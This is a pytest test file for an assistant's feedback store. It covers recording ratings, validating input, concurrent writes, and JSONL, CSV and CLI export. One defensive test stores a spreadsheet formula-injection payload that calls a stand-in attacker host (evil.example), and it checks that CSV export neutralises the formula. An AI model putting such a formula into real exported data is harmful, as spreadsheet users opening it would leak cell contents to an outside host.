"""The feedback store: ratings recorded, listed and exported; the CLI export."""

from __future__ import annotations

import csv
import io
import json
import threading
from pathlib import Path

import pytest

from assistant.cli import main
from assistant.feedback import FeedbackStore

ANSWER = {
    "answer": "Xiaomi was founded in 2010 by Lei Jun. [1]", "abstained": False, "answered_by": "extractive",
    "citations": [{"document": "xiaomi-business-model.txt", "section": "Company Background",
                   "path": ["Company Background"], "quote": "Xiaomi was founded in 2010 by Lei Jun.",
                   "score": 0.9}],
    "query": "When was Xiaomi founded?",
}


@pytest.fixture
def store(tmp_path: Path) -> FeedbackStore:
    return FeedbackStore(tmp_path / "data" / "feedback.sqlite3")


def test_record_and_rows_keep_question_answer_citations_and_time(store: FeedbackStore) -> None:
    first = store.record("When was Xiaomi founded?", ANSWER, "up", "chat")
    second = store.record("Who is the CEO?", {**ANSWER, "abstained": True, "citations": []}, "down", "api")
    rows = store.rows()
    assert [r["id"] for r in rows] == [first, second]
    assert rows[0]["question"] == "When was Xiaomi founded?"
    assert rows[0]["answer"] == ANSWER["answer"]
    assert rows[0]["citations"][0]["section"] == "Company Background"
    assert rows[0]["rating"] == "up" and rows[0]["source"] == "chat"
    assert rows[0]["created_at"].startswith("20")
    assert rows[1]["abstained"] is True and rows[1]["citations"] == []


def test_only_a_true_abstained_is_recorded_as_abstained(store: FeedbackStore) -> None:
    """A client that sends "false" as a string did not see a refusal."""
    store.record("When was Xiaomi founded?", {**ANSWER, "abstained": "false"}, "up", "api")
    assert store.rows()[0]["abstained"] is False


def test_empty_store_has_no_rows_and_creates_no_file(store: FeedbackStore) -> None:
    assert store.rows() == []
    assert store.export("jsonl", io.StringIO()) == 0
    assert not store.path.exists()


@pytest.mark.parametrize(("rating", "source", "message"), [
    ("meh", "chat", "rating must be one of up, down"),
    ("up", "email", "source must be one of chat, widget, api"),
])
def test_bad_rating_or_source_is_rejected_with_a_clear_message(
        store: FeedbackStore, rating: str, source: str, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        store.record("q", ANSWER, rating, source)
    assert store.rows() == []


def test_export_jsonl_and_csv(store: FeedbackStore) -> None:
    store.record("When was Xiaomi founded?", ANSWER, "up", "widget")
    store.record('Quotes "and", commas\nnewlines', ANSWER, "down", "chat")
    out = io.StringIO()
    assert store.export("jsonl", out) == 2
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [line["rating"] for line in lines] == ["up", "down"]
    assert lines[0]["citations"][0]["quote"] == "Xiaomi was founded in 2010 by Lei Jun."

    out = io.StringIO()
    assert store.export("csv", out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[1]["question"] == 'Quotes "and", commas\nnewlines'
    assert json.loads(rows[0]["citations"])[0]["section"] == "Company Background"
    with pytest.raises(ValueError, match="format must be one of jsonl, csv"):
        store.export("xml", io.StringIO())


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(store: FeedbackStore) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    store.record(formula, {**ANSWER, "answer": "@SUM(A1:A9)"}, "down", "api")
    out = io.StringIO()
    store.export("csv", out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["question"] == "'" + formula and row["answer"] == "'@SUM(A1:A9)"
    out = io.StringIO()
    store.export("jsonl", out)  # JSON lines keep the text exactly as asked
    assert json.loads(out.getvalue())["question"] == formula


@pytest.mark.parametrize("citations", [[1, 2], [{"x": 1}], "Company Background", {"section": "x"}])
def test_citations_that_are_not_the_answers_citations_are_rejected(store: FeedbackStore, citations) -> None:
    with pytest.raises(ValueError, match="citations"):
        store.record("q", {**ANSWER, "citations": citations}, "up", "api")
    assert store.rows() == []


def test_concurrent_records_are_all_kept(store: FeedbackStore) -> None:
    threads = [threading.Thread(target=store.record, args=(f"q{i}", ANSWER, "up", "api")) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(r["question"] for r in store.rows()) == sorted(f"q{i}" for i in range(8))


def test_cli_export_writes_jsonl_to_stdout_and_csv_to_a_file(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    FeedbackStore(tmp_path / "feedback.sqlite3").record("When was Xiaomi founded?", ANSWER, "up", "chat")
    assert main(["--data-dir", str(tmp_path), "feedback", "export"]) == 0
    captured = capsys.readouterr()
    assert json.loads(captured.out)["question"] == "When was Xiaomi founded?"
    assert "exported 1 rating(s)" in captured.err

    target = tmp_path / "out.csv"
    assert main(["--data-dir", str(tmp_path), "feedback", "export", "--format", "csv",
                 "--output", str(target)]) == 0
    rows = list(csv.DictReader(target.open(encoding="utf-8")))
    assert rows[0]["rating"] == "up" and rows[0]["answer"] == ANSWER["answer"]
